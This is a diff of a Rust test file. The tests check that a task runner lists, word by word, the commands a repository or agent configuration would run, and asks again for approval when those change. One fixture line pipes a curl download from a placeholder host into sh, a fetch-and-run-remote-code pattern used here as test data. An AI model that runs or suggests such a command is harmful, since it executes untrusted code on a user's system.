@@ -95,11 +95,67 @@ fn what_would_run_is_shown_word_by_word_before_the_yes() {
     for line in [
         "proof: curl -fsS https://example.invalid/x | sh\n".to_owned(),
         format!("setup: touch '{}/setup'\n", marks.display()),
-        format!("opencode: sh -c touch '{}/agent'\n", marks.display()),
+        format!("opencode: sh -c 'touch '\\''{}/agent'\\'''\n", marks.display()),
     ] {
         assert!(list.contains(&line), "{line} in {list}");
     }
     assert_eq!(std::fs::read_dir(&marks).unwrap().count(), 0);
+}
+
+/// Somebody said yes to what a repository would run, and it ran. Then its settings or its script are others.
+#[track_caller]
+fn is_asked_about_again(world: &World, shown: &str, change: impl FnOnce()) {
+    let list = world.ends(3, &["run", "x.spec.md"]).out;
+    assert!(list.contains(shown), "{shown} in {list}");
+    world.ends(0, &["runs", "approve", &world.run()]);
+    world.waits(&world.run());
+    let same = world.segue(&["run", "x.spec.md"]).out;
+    assert!(!same.contains("this list was not run before"), "{same}");
+    change();
+    let other = world.ends(3, &["run", "x.spec.md"]).out;
+    assert!(other.contains("this list was not run before"), "{other}");
+    let log = world.ends(0, &["runs", "logs", &world.run()]).out;
+    assert!(!log.contains("first: attempt"), "{log}");
+}
+
+#[test]
+fn what_a_rehearsal_runs_is_on_the_list_and_another_script_is_asked_about() {
+    let script = |line: &str| {
+        format!(
+            "tasks:\n  first:\n    - - run: \"{line}\"\n      - write: {{ path: first.txt, text: one }}\n"
+        )
+    };
+    for (one, other) in [("true", "true; touch it-ran"), ("echo a\\nproof: b", "echo a")] {
+        let world = World::scripted(&script(one));
+        let shown = format!("\n  actor: {}\n", one.replace("\\n", "\n      "));
+        is_asked_about_again(&world, &shown, || world.write("actor.yaml", &script(other)));
+    }
+    // Also what it leaves behind, what it would run with leave, and what it writes elsewhere.
+    let world = World::scripted("");
+    let path = world.top().with_file_name("outside");
+    let steps = format!("- leave: a\n      - want: b\n      - write_outside: {{ path: {path:?} }}\n");
+    world.write("actor.yaml", &format!("tasks:\n  first:\n    - {steps}"));
+    let list = world.ends(3, &["run", "x.spec.md"]).out;
+    for line in ["actor: a\n", "actor: b\n", &format!("actor: writes {}\n", path.display())] {
+        assert!(list.contains(line), "{line} in {list}");
+    }
+}
+
+#[test]
+fn other_words_and_another_mode_of_an_agent_are_asked_about() {
+    let world = World::scripted("");
+    let settings = |agent: &str| {
+        let orchestrator = "[orchestrator]\nagent = \"own\"\ntransient-retries = 0\n";
+        world.write("segue.toml", &format!("[agents.own]\n{agent}\n{orchestrator}"));
+    };
+    settings("command = [\"sh\", \"-c\", \"true; touch it-ran\"]");
+    is_asked_about_again(&world, "own: sh -c 'true; touch it-ran'\n", || {
+        settings("command = [\"sh\", \"-c\", \"true;\", \"touch\", \"it-ran\"]");
+    });
+    settings("acp = [\"true\"]\nmode = \"ask\"");
+    is_asked_about_again(&world, "own: true, in its mode ask\n", || {
+        settings("acp = [\"true\"]\nmode = \"bypass\"");
+    });
 }
 
 #[test]
